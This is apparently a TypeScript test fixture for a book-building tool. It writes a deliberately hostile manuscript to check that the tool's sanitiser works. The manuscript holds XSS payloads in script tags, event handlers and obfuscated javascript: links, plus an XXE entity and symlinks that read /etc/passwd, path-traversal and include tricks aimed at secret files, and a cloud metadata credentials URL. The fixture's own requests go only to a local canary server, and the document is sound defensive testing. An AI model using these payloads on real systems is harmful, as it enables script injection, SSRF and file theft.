/**
 * A hostile mini-book, written at test time into a temporary folder (the
 * symlinks to /etc/passwd and to files outside the manuscript cannot be
 * committed). One chapter per adversarial case of
 * ../shared/design/adversarial.md; every URL that could make a request points
 * at a canary server on 127.0.0.1; a secret file next to the manuscript holds
 * a random token that the book tries to pull in through every vector.
 */
import { mkdir, symlink, writeFile } from 'node:fs/promises';
import path from 'node:path';

export const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

/** A 1×1 PNG (valid, so Chromium and EPUBCheck accept it). */
export const TINY_PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);

export interface HostileBook {
  /** The folder that holds the manuscript and, beside it, the secrets. */
  dir: string;
  manuscript: string;
  /** The random token in every secret file outside the manuscript. */
  token: string;
  /** Chapter file name → the source lines of that chapter. */
  chapters: Map<string, string[]>;
  /** 1-based line of the first occurrence of `needle` in a chapter (for line:col assertions). */
  lineOf(chapter: string, needle: string): number;
}

/** Secrets next to the manuscript, each one a file some vector could read: text, Markdown, PNG, SVG, BibTeX, YAML. */
export async function writeSecrets(dir: string, token: string) {
  await writeFile(path.join(dir, 'secret.txt'), `${token}\n`);
  await writeFile(path.join(dir, 'secret.md'), `# Secret\n\n${token}\n`);
  await writeFile(path.join(dir, 'secret.png'), Buffer.concat([PNG_SIGNATURE, Buffer.from(token)]));
  await writeFile(path.join(dir, 'secret.svg'), `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><text x="0" y="5">${token}</text></svg>\n`);
  await writeFile(path.join(dir, 'secret.bib'), `@article{leak, title = {${token}}, author = {Secret, Sam}, year = {2020}}\n`);
}

/** The chapters of the hostile book; `{P}` is the canary's port. */
function chapterSources(canary: string): [file: string, title: string, lines: string[]][] {
  const c = canary;
  return [
    ['c04-script.md', 'Scripts', [
      '# Scripts',
      '',
      `<script>fetch('${c}/script-inline')</script>`,
      '',
      `<script src="${c}/script-src.js"></script>`,
      '',
      `Text with <script>fetch('${c}/script-in-paragraph')</script> inside.`,
      '',
      `<noscript><img src="${c}/noscript.png" alt="n"></noscript>`,
      '',
      `<template><img src="${c}/template.png" alt="t"></template>`,
      '',
      `<SCRIPT type="module">import '${c}/module.js'</SCRIPT>`,
    ]],
    ['c05-handlers.md', 'Event handlers', [
      '# Event handlers',
      '',
      `<img src=x onerror="fetch('${c}/onerror')">`,
      '',
      `<svg onload="fetch('${c}/svg-onload')" viewBox="0 0 10 10"><circle r="1" onclick="fetch('${c}/onclick')"/></svg>`,
      '',
      `<p onmouseover="fetch('${c}/p')" ONFOCUS="x()">hover</p>`,
      '',
      `<details open ontoggle="fetch('${c}/ontoggle')"><summary>s</summary>d</details>`,
      '',
      `<math onclick="fetch('${c}/math')"><mi>x</mi></math>`,
      '',
      `<a href="#event-handlers" onclick="fetch('${c}/a')">a</a>`,
      '',
      `<div/onpointerenter="fetch('${c}/slash')">slash</div>`,
      '',
      '<svg viewBox="0 0 10 10"><a><animate attributeName="href" values="javascript:alert(1)"/><set attributeName="onmouseover" to="alert(2)"/><text x="1" y="5">animated</text></a></svg>',
    ]],
    ['c06-js-links.md', 'Script URLs', [
      '# Script URLs',
      '',
      '[mixed case](JaVaScRiPt:alert(1))',
      '',
      '<a href="java&#x09;script:alert(2)">tab entity</a>',
      '',
      '<a href="jav&#x0A;ascript:alert(3)">newline entity</a>',
      '',
      '<a href="data:text/html,<script>alert(4)</script>">data html</a>',
      '',
      '[data base64](data:text/html;base64,PHNjcmlwdD5hbGVydCg1KTwvc2NyaXB0Pg==)',
      '',
      '<a href=" javascript:alert(6)">leading space</a>',
      '',
      '<a href="&#106;avascript:alert(7)">decimal entity</a>',
      '',
      '<a href="vbscript:msgbox(8)">vbscript</a>',
      '',
      '<svg viewBox="0 0 10 10"><a href="javascript:alert(9)"><text x="1" y="5">svg link</text></a></svg>',
      '',
      '<form action="javascript:alert(10)"><button formaction="javascript:alert(11)">go</button></form>',
      '',
      '[ref link][evil]',
      '',
      '[evil]: javascript:alert(12)',
    ]],
    ['c07-iframe.md', 'Frames', [
      '# Frames',
      '',
      '<iframe src="file:///etc/passwd"></iframe>',
      '',
      `<iframe srcdoc="<script>fetch('${c}/srcdoc')</script>"></iframe>`,
      '',
      '<frameset><frame src="file:///etc/passwd"></frameset>',
      '',
      '<object data="file:///etc/passwd"></object>',
      '',
      '<embed src="file:///etc/passwd">',
    ]],
    ['c08-remote-images.md', 'Remote images', [
      '# Remote images',
      '',
      '![metadata](http://169.254.169.254/latest/meta-data/iam/security-credentials/)',
      '',
      `![canary](${c}/x.png)`,
      '',
      `<img src="${c}/raw.png" alt="raw">`,
      '',
      `<img src="images/ok.png" srcset="${c}/srcset.png 2x" alt="srcset">`,
      '',
      `<picture><source srcset="${c}/picture.png"><img src="images/ok.png" alt="picture"></picture>`,
      '',
      `<video src="${c}/video.mp4" poster="${c}/poster.png"></video>`,
      '',
      `<audio src="${c}/audio.mp3"></audio>`,
      '',
      `<input type="image" src="${c}/input.png">`,
      '',
      `<img src="HTTP://127.0.0.1:${new URL(c).port}/upper.png" alt="upper">`,
      '',
      `<img src="ht&#x09;tp://127.0.0.1:${new URL(c).port}/tab.png" alt="tab">`,
      '',
      `<table background="${c}/table.png"><tr><td background="${c}/td.png">t</td></tr></table>`,
    ]],
    ['c09-paths.md', 'Paths outside', [
      '# Paths outside',
      '',
      '![up](../../../../etc/passwd)',
      '',
      '![absolute](/etc/passwd)',
      '',
      '![file url](file:///etc/passwd)',
      '',
      '![upper file](FILE:/etc/passwd)',
      '',
      `![protocol relative](//127.0.0.1:${new URL(c).port}/x.png)`,
      '',
      '![sibling secret](../secret.png)',
      '',
      '<img src="../secret.svg" alt="raw sibling">',
      '',
      '![backslash](..\\secret.png)',
    ]],
    ['c10-encoded.md', 'Encoded paths', [
      '# Encoded paths',
      '',
      '![encoded](images/%2e%2e/ok.png)',
      '',
      '![double](images/%252e%252e/%252e%252e/secret.png)',
      '',
      '![escape](images/%2e%2e/%2e%2e/secret.png)',
      '',
      '![slash](images%2f..%2f..%2fsecret.png)',
      '',
      '![mixed](images/.%2E/.%2e/secret.png)',
    ]],
    ['c11-symlink.md', 'Symlinks', [
      '# Symlinks',
      '',
      '![passwd](images/a.png)',
      '',
      '![secret](images/b.png)',
      '',
      '![folder](linked/secret.png)',
    ]],
    ['c12-magic.md', 'Magic bytes', [
      '# Magic bytes',
      '',
      '![text as png](images/fake.png)',
      '',
      '![html as svg](images/page.svg)',
      '',
      '![hostile svg](images/evil.svg)',
      '',
      '![good](images/ok.png)',
    ]],
    ['c13-stripped.md', 'Stripped elements', [
      '# Stripped elements',
      '',
      `<meta http-equiv="refresh" content="0;url=${c}/refresh">`,
      '',
      '<base href="file:///">',
      '',
      `<base href="${c}/">`,
      '',
      `<link rel="stylesheet" href="${c}/link.css">`,
      '',
      `<link rel="prefetch" href="${c}/prefetch">`,
      '',
      `<object data="${c}/object.swf" type="application/x-shockwave-flash"></object>`,
      '',
      `<embed src="${c}/embed.swf">`,
      '',
      `<svg viewBox="0 0 10 10"><image href="file:///etc/passwd" width="10" height="10"/><image xlink:href="${c}/svg-image.png" width="10" height="10"/></svg>`,
      '',
      `<svg viewBox="0 0 10 10"><use href="${c}/use.svg#a"/><feImage href="${c}/feimage.png"/></svg>`,
      '',
      `<svg viewBox="0 0 10 10"><foreignObject><img src="${c}/foreign.png" alt="f"></foreignObject><script>fetch('${c}/svg-script')</script></svg>`,
      '',
      'Relative images such as images/ok.png would resolve against a base URL: relative links stay relative.',
    ]],
    ['c14-css.md', 'Style requests', [
      '# Style requests',
      '',
      `<p style="background:url(${c}/style-bg.png)">inline style</p>`,
      '',
      `<div style="background-image:url('//127.0.0.1:${new URL(c).port}/style-bg2.png')">protocol-relative style</div>`,
      '',
      `<style>@import url(${c}/import.css); p { background: url(${c}/style-element.png) }</style>`,
      '',
      `<math style="background:url(${c}/math-style.png)"><mi style="background-image:u\\72l(${c}/math-escape.png)">x</mi></math>`,
      '',
      `<svg viewBox="0 0 10 10"><rect width="5" height="5" fill="url(${c}/fill.svg#p)" stroke="url(${c}/stroke.svg#p)"/><path d="M0 0L5 5" marker-end="url(${c}/marker.svg#m)" style="filter:url(${c}/filter.svg#f)"/></svg>`,
      '',
      `<font face="x" style="font-family:url(${c}/font)">font</font>`,
    ]],
    ['evil.md', '../../evil', ['# Evil', '', 'A title that looks like a path.']],
    ['CON.md', 'CON', ['# CON', '', 'A Windows device name.']],
    ['con.md', 'con', ['# con', '', 'The same name, lower case.']],
    ['a-b.md', 'a\\b', ['# a\\b', '', 'A backslash in the title.']],
    ['Ünï.md', 'Ünï', ['# Ünï', '', 'Accents.']],
    ['uni.md', 'Ünï', ['# Ünï', '', 'The same name, without accents.']],
    ['dup/a.md', 'Duplicate', ['# Duplicate', '', 'One.']],
    ['dup-a.md', 'Duplicate', ['# Duplicate', '', 'Two, whose name collides with dup/a.md.']],
    ['c15-title.md', '<script>alert(1)</script>', ['---', 'title: "</title><script>alert(2)</script>"', '---', '', '# <img src=x onerror=alert(3)>', '', 'Markup in titles is text.']],
    ['c17-hygiene.md', 'Hygiene', [
      '\uFEFF# Hygiene',
      '',
      'A NUL here: \u0000 (replaced).',
      '',
      'A right-to-left override: \u202Eevil\u202C (warned about).',
      '',
      'Characters XML cannot hold: \u0001 \u000B \uFFFE \uFFFF (replaced).',
    ]],
    ['c18-includes.md', 'Includes', [
      '# Includes',
      '',
      '```text',
      '{{#include ../secret.txt}}',
      '```',
      '',
      '```text',
      '{{#include listings/leak.txt}}',
      '```',
      '',
      '{% include "../secret.md" %}',
      '',
      '{% include "listings/leak.md" %}',
      '',
      '[outside](../secret.txt)',
      '',
      '[file link](file:///etc/passwd)',
      '',
      '<a href="/etc/passwd">absolute link</a>',
    ]],
  ];
}

/** Writes the hostile book under `dir` (which must exist): manuscript in `dir/book`, secrets beside it. */
export async function writeHostileBook(dir: string, canary: string, token: string): Promise<HostileBook> {
  const manuscript = path.join(dir, 'book');
  await mkdir(path.join(manuscript, 'images'), { recursive: true });
  await mkdir(path.join(manuscript, 'listings'), { recursive: true });
  await mkdir(path.join(manuscript, 'dup'), { recursive: true });
  await writeSecrets(dir, token);
  await writeFile(
    path.join(manuscript, 'book.yaml'),
    ['title: "Hostile <script>alert(1)</script>"', 'authors: ["Mallory"]', 'language: en', 'identifier: "urn:uuid:6f1c1a52-6a7e-4f39-9d0b-5b0b1b0c0d0e"', 'date: "2026-01-01"', 'cover: ../secret.png', ''].join('\n'),
  );
  await writeFile(path.join(manuscript, 'images', 'ok.png'), TINY_PNG);
  await writeFile(path.join(manuscript, 'images', 'fake.png'), 'root:x:0:0:root:/root:/bin/bash\nThis is text, not a PNG.\n');
  await writeFile(path.join(manuscript, 'images', 'page.svg'), `<html><body><script>fetch('${canary}/page-svg')</script></body></html>\n`);
  await writeFile(
    path.join(manuscript, 'images', 'evil.svg'),
    [
      '<?xml version="1.0"?>',
      `<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>`,
      `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10" onload="fetch('${canary}/svgfile-onload')">`,
      `<script>fetch('${canary}/svgfile-script')</script>`,
      `<style>@import url(${canary}/svgfile-import.css);</style>`,
      `<image href="file:///etc/passwd" width="1" height="1"/><image xlink:href="${canary}/svgfile-image.png" width="1" height="1"/>`,
      `<use href="${canary}/svgfile-use.svg#a"/>`,
      `<foreignObject><iframe src="${canary}/svgfile-frame"></iframe></foreignObject>`,
      `<a href="javascript:alert(1)"><text x="1" y="5">&xxe;</text></a>`,
      `<rect width="2" height="2" fill="url(${canary}/svgfile-fill.svg#p)"/>`,
      '<circle cx="5" cy="5" r="3" fill="teal"/>',
      '</svg>',
      '',
    ].join('\n'),
  );
  // Symlinks out of the manuscript (git stores symlinks, so a pull request can add them).
  await symlink('/etc/passwd', path.join(manuscript, 'images', 'a.png'));
  await symlink(path.join(dir, 'secret.png'), path.join(manuscript, 'images', 'b.png'));
  await symlink(dir, path.join(manuscript, 'linked'));
  await symlink(path.join(dir, 'secret.txt'), path.join(manuscript, 'listings', 'leak.txt'));
  await symlink(path.join(dir, 'secret.md'), path.join(manuscript, 'listings', 'leak.md'));

  const sources = chapterSources(canary);
  const chapters = new Map<string, string[]>();
  const toc: string[] = ['# Summary', ''];
  for (const [file, title, lines] of sources) {
    chapters.set(file, lines);
    await mkdir(path.dirname(path.join(manuscript, file)), { recursive: true });
    await writeFile(path.join(manuscript, file), lines.join('\n') + '\n');
    const link = file.split('/').map(encodeURIComponent).join('/');
    toc.push(`* [${title.replace(/[[\]\\]/g, (ch) => `\\${ch}`)}](${link})`);
  }
  // The same file listed twice.
  toc.push('* [Scripts again](c04-script.md)');
  await writeFile(path.join(manuscript, 'SUMMARY.md'), toc.join('\n') + '\n');
  return {
    dir,
    manuscript,
    token,
    chapters,
    lineOf(chapter, needle) {
      const lines = chapters.get(chapter);
      const index = lines?.findIndex((l) => l.includes(needle)) ?? -1;
      if (index < 0) throw new Error(`${needle} not in ${chapter}`);
      return index + 1;
    },
  };
}
